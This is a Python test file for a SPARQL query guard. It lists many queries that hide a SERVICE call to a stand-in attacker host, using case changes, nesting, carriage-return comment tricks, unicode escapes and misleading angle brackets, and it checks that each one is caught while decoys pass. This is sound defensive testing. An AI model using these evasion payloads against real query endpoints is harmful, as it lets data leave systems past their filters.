"""The attack table: what would leave this machine is refused, what only looks like it passes."""

import pytest

from kgbuild.store import guard

PATTERN = "SERVICE <http://attacker.example/> { ?s ?p ?o }"


@pytest.mark.parametrize(
    "query",
    [
        f"SELECT * {{ {PATTERN} }}",
        f"SELECT * {{ {PATTERN.replace('SERVICE', 'service')} }}",
        f"SELECT * {{ {PATTERN.replace('SERVICE', 'SERVICE SILENT')} }}",
        "SELECT * { ?s ?p ?e SERVICE ?e { ?s ?p ?o } }",
        "SELECT * { SERVICE<http://attacker.example/>{ ?s ?p ?o } }",
        f"SELECT * {{ ?s ?p ?o FILTER EXISTS {{ {PATTERN} }} }}",
        f"SELECT * {{ ?s ?p ?o FILTER NOT EXISTS {{ {PATTERN} }} }}",
        f"SELECT * {{ {{ SELECT * {{ {PATTERN} }} }} }}",
        f"SELECT * {{ OPTIONAL {{ {PATTERN} }} }}",
        f"SELECT * {{ {{}} UNION {{ {PATTERN} }} }}",
        f"SELECT * {{ GRAPH ?g {{ {PATTERN} }} }}",
        f"SELECT * {{ ?s ?p ?o MINUS {{ {PATTERN} }} }}",
        f"SELECT (EXISTS {{ {PATTERN} }} AS ?b) {{}}",
        f"SELECT * {{ BIND(EXISTS {{ {PATTERN} }} AS ?b) }}",
        f"SELECT * {{}} ORDER BY (EXISTS {{ {PATTERN} }})",
        f"SELECT * {{ LATERAL {{ {PATTERN} }} }}",
        f"ASK {{ {PATTERN} }}",
        f"CONSTRUCT {{ ?s ?p ?o }} {{ {PATTERN} }}",
        f"DESCRIBE ?s {{ {PATTERN} }}",
        # a comment ends at a carriage return, which rdflib does not know
        f"SELECT * {{ ?s ?p ?o # decoy\r{PATTERN}\n}}",
        # "<" and ">" that are no IRI hide the word from a reading by words alone
        "SELECT * { ?s ?p ?o FILTER(?s<?o)SERVICE#>\n?x { ?s ?p ?o } }",
        # both tricks together
        "SELECT * { ?s ?p ?o FILTER(?s<?o)SERVICE#>\r?x { ?s ?p ?o } }",
        'SELECT * { ?s ?p "\\"" . SERVICE <http://attacker.example/> { ?s ?p "\\"" } }',
        f"SELECT * {{ ?s ?p '''it's''' . {PATTERN} }}",
        "SELECT * { \\u0053ERVICE <http://attacker.example/> { ?s ?p ?o } }",
        "SELECT * { broken SERVICE",
    ],
)
def test_service_is_found_wherever_it_hides(query: str) -> None:
    assert guard.read(query).leaves


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * { ?s ?p 'SERVICE <http://x/> { ?s ?p ?o }' }",
        'SELECT * { ?s ?p """SERVICE\n<http://x/> {}""" }',
        "SELECT ?service { ?service ?p ?o }",
        "SELECT * { ?s <http://x/SERVICE> ?o }",
        "PREFIX service: <http://x/> SELECT * { ?s service:service ?o }",
        "SELECT * { ?s ?p ?o } # SERVICE <http://x/> {}",
        "SELECT * { ?s a <http://www.w3.org/ns/dcat#DataService> }",
        "PREFIX dcat: <http://www.w3.org/ns/dcat#> SELECT * { ?s a dcat:DataService ; dcat:servesDataset ?o }",
    ],
)
def test_decoys_pass(query: str) -> None:
    assert not guard.read(query).leaves


def test_from_is_read_with_prefixes_and_base() -> None:
    query = "PREFIX g: <http://x/graph/> SELECT * FROM g:a FROM NAMED <b> { ?s ?p ?o }"
    assert guard.read(query, "http://host/sparql").graphs == ("http://x/graph/a", "http://host/b")
